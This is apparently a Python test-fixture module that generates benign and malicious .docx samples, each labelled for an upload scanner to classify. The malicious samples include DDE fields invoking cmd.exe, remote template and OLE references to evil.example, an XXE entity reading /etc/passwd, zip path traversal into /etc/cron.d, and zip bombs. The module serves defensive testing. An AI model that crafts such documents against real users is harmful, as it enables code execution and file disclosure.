"""Word documents for the corpus of uploads: as Word and LibreOffice write them, and as attackers
do.
"""

import io
import zipfile
from collections.abc import Callable, Mapping

from .images import jpeg
from .pdf import HTML, archive

OK = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_MAIN = OK + ".main+xml"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
Parts = Mapping[str, str | bytes]


def types(main: str = _MAIN, *more: str, part: str = "/word/document.xml") -> str:
    others = "".join(
        f'<Override PartName="/word/other{n}" ContentType="{one}"/>' for n, one in enumerate(more)
    )
    known = (
        '<Default Extension="rels"'
        ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    )
    override = f'<Override PartName="{part}" ContentType="{main}"/>'
    return (
        "<Types"
        f' xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{known}{override}{others}</Types>'
    )


def relations(*each: tuple[str, str, bool]) -> str:
    lines = "".join(
        f'<Relationship Id="r{n}" Type="{_RELATIONS}/{kind}" Target="{target}"'
        f' TargetMode="{"External" if external else "Internal"}"/>'
        for n, (kind, target, external) in enumerate(each)
    )
    return (
        "<Relationships"
        f' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'
    )


def document(inner: str = "<w:r><w:t>Kính gửi Ủy ban nhân dân</w:t></w:r>") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document'
        f" {_W}><w:body><w:p>{inner}</w:p></w:body></w:document>"
    )


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar'
        ' w:fldCharType="end"/></w:r>'
    )


def docx(
    more: Parts | None = None,
    *,
    main: str = "word/document.xml",
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A document; `more` are parts beside its own, or instead of them."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types(part="/" + main),
        "_rels/.rels": relations(("officeDocument", main, False)),
        main: document(),
        **(more or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as packed:
        for name, body in parts.items():
            packed.writestr(name, body)
    return out.getvalue()


def related(kind: str, target: str, part: str = "document", *, external: bool = True) -> bytes:
    return docx({f"word/_rels/{part}.xml.rels": relations((kind, target, external))})


def workbook(more: Parts | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        for name, body in {
            "[Content_Types].xml": types(sheet),
            "xl/workbook.xml": "<workbook/>",
            **(more or {}),
        }.items():
            packed.writestr(name, body)
    return out.getvalue()


def twice() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as packed:
        packed.writestr("WORD/document.xml", document(field("DDEAUTO a b")))
    return out.getvalue()


def locked() -> bytes:
    """The flag of each part's encryption set, in the list at the end."""
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def lying_size() -> bytes:
    """Says of a part that it has a hundredth of its size."""
    data = bytearray(docx({"word/media/a.txt": bytes(1_000_000)}))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (10_000).to_bytes(4, "little")
    return bytes(data)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
DTD = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
CHART = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"

WORDS: dict[str, tuple[str, Callable[[], bytes]]] = {
    # what people have
    "docx-plain": (OK, docx),
    "docx-of-libreoffice": (
        OK,
        lambda: docx(
            {"docProps/app.xml": "<Properties/>", "word/settings.xml": "<w:settings xmlns:w='w'/>"}
        ),
    ),
    "docx-stored": (OK, lambda: docx(method=zipfile.ZIP_STORED)),
    "docx-online": (OK, lambda: docx(main="word/document2.xml")),
    "docx-with-links": (OK, lambda: related("hyperlink", "https://dichvucong.example/a?b=c")),
    "docx-of-a-template-on-that-machine": (
        OK,
        lambda: related(
            "attachedTemplate", "file:///C:\\Users\\an\\Templates\\Don.dotx", "settings"
        ),
    ),
    "docx-of-the-normal-template": (
        OK,
        lambda: related("attachedTemplate", "Normal.dotm", "settings"),
    ),
    "docx-with-a-photo": (
        OK,
        lambda: docx(
            {
                "word/media/image1.jpeg": jpeg(),
                "word/_rels/document.xml.rels": relations(("image", "media/image1.jpeg", False)),
            }
        ),
    ),
    "docx-with-a-chart": (OK, lambda: docx({CHART: workbook()})),
    "docx-with-fields": (
        OK,
        lambda: docx(
            {"word/document.xml": document(field(' TOC \\o "1-3" ') + field(" PA", "GE "))}
        ),
    ),
    "docx-in-utf-16": (
        OK,
        lambda: docx({"word/document.xml": document().replace("UTF-8", "UTF-16").encode("utf-16")}),
    ),
    "docx-long": (
        OK,
        lambda: docx(
            {
                "word/document.xml": document(
                    "".join(f"<w:r><w:t>Dòng thứ {n}</w:t></w:r>" for n in range(60_000))
                )
            }
        ),
    ),
    # runs something
    "docx-with-macros": ("macro", lambda: docx({"word/vbaProject.bin": OLE})),
    "docx-with-macros-by-another-name": (
        "macro",
        lambda: docx(
            {
                "[Content_Types].xml": types(_MAIN, "application/vnd.ms-office.vbaProject"),
                "word/a.bin": b"a",
            }
        ),
    ),
    "docm": (
        "macro",
        lambda: docx(
            {"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml")}
        ),
    ),
    "docx-dde": (
        "field",
        lambda: docx(
            {
                "word/document.xml": document(
                    field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
                )
            }
        ),
    ),
    "docx-dde-in-pieces": (
        "field",
        lambda: docx({"word/header1.xml": document(field(" D", "DE", 'AUTO "cmd" "a"'))}),
    ),
    "docx-dde-simple": (
        "field",
        lambda: docx({"word/document.xml": document('<w:fldSimple w:instr=" dde cmd a"/>')}),
    ),
    "docx-dde-spelled": (
        "field",
        lambda: docx({"word/document.xml": document(field("QUOTE 68 68 69 65 85 84 79 32 99"))}),
    ),
    "docx-dde-in-a-part-of-another-name": (
        "field",
        lambda: docx({"word/document.bin": document(field("DDEAUTO a b"))}),
    ),
    "docx-dde-in-utf-16": (
        "field",
        lambda: docx(
            {"word/a.bin": document(field("DDE a b")).replace("UTF-8", "UTF-16").encode("utf-16")}
        ),
    ),
    "docx-activex": ("embedded-object", lambda: docx({"word/activeX/activeX1.xml": "<ax/>"})),
    "docx-ole": ("embedded-object", lambda: docx({"word/embeddings/oleObject1.bin": OLE})),
    "docx-ole-by-another-name": ("embedded-object", lambda: docx({"word/media/image1.png": OLE})),
    "docx-with-a-program": (
        "embedded-object",
        lambda: docx({"word/media/image1.png": b"MZ" + bytes(300)}),
    ),
    "docx-with-an-archive": ("embedded-object", lambda: docx({"word/media/image1.png": archive()})),
    "docx-with-another-format-inside": (
        "embedded-object",
        lambda: related("aFChunk", "chunk.html", external=False),
    ),
    "docx-with-a-chart-with-macros": (
        "macro",
        lambda: docx({CHART: workbook({"xl/vbaProject.bin": OLE})}),
    ),
    "docx-with-a-chart-with-a-chart": (
        "embedded-object",
        lambda: docx({CHART: workbook({CHART: workbook()})}),
    ),
    # fetches something
    "docx-remote-template": (
        "remote-template",
        lambda: related("attachedTemplate", "https://evil.example/a.dotm", "settings"),
    ),
    "docx-template-on-a-share": (
        "remote-template",
        lambda: related("attachedTemplate", "file://evil/a.dotm", "settings"),
    ),
    "docx-template-on-a-share-by-its-windows-name": (
        "remote-template",
        lambda: related("attachedTemplate", "\\\\evil\\a.dotm", "settings"),
    ),
    "docx-remote-template-with-blanks": (
        "remote-template",
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": (
                    relations(("attachedTemplate", " http://evil.example ", True)).replace(
                        "External", " external "
                    )
                )
            }
        ),
    ),
    "docx-remote-object": (
        "embedded-object",
        lambda: related("oleObject", "mhtml:https://evil.example!x-usc:https://evil.example"),
    ),
    "docx-remote-frame": (
        "remote-content",
        lambda: related("frame", "https://evil.example", "webSettings"),
    ),
    "docx-remote-picture": (
        "remote-content",
        lambda: related("image", "https://evil.example/a.png"),
    ),
    "docx-field-that-fetches": (
        "remote-content",
        lambda: docx(
            {"word/document.xml": document(field("INCLUDEPICTURE https://evil.example/a.png"))}
        ),
    ),
    "docx-entities": (
        "xml-doctype",
        lambda: docx(
            {"word/document.xml": document().replace("<w:document", DTD + "<w:document", 1)}
        ),
    ),
    "docx-entities-in-utf-16": (
        "xml-doctype",
        lambda: docx({"customXml/item1.xml": (DTD + "<a>&b;</a>").encode("utf-16")}),
    ),
    # locked, broken off, another file
    "docx-with-a-password": ("password", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    "docx-with-locked-parts": ("password", locked),
    "doc-of-old-word": ("media-type", lambda: OLE),
    "docx-cut-in-half": ("cut-off", lambda: docx({"word/media/a.jpeg": jpeg()})[:-5_000]),
    "docx-by-name-only": ("cut-off", lambda: b"PK\x03\x04 [Content_Types].xml word/document.xml"),
    "docx-with-a-changed-byte": (
        "damaged",
        lambda: docx(method=zipfile.ZIP_STORED).replace(b"nh\xc3\xa2n", b"nh\xc3\xa3n"),
    ),
    "docx-that-is-no-xml": ("damaged", lambda: docx({"word/document.xml": "<w:document>"})),
    "docx-with-a-part-twice": ("damaged", twice),
    "docx-with-a-way-out": ("damaged", lambda: docx({"../../etc/cron.d/a": "a"})),
    "xlsx": ("media-type", workbook),
    "archive": ("media-type", archive),
    "docx-before-a-web-page": ("trailing-data", lambda: docx() + HTML),
    "docx-before-a-disk": ("trailing-data", lambda: docx() + b"\x01" * 5_000),
    # made to be too much
    "docx-bomb": ("too-complex", lambda: docx({"word/media/a.txt": bytes(50_000_000)})),
    "docx-bomb-of-many": (
        "too-complex",
        lambda: docx({f"word/media/{n}.txt": bytes(9_000_000) for n in range(30)}),
    ),
    "docx-that-lies-about-sizes": ("damaged", lying_size),
    "docx-of-too-many-parts": (
        "too-complex",
        lambda: docx({f"word/media/{n}": "" for n in range(5_001)}),
    ),
    "docx-nested-too-deep": (
        "too-complex",
        lambda: docx({"word/document.xml": document("<w:p>" * 2_000 + "</w:p>" * 2_000)}),
    ),
}
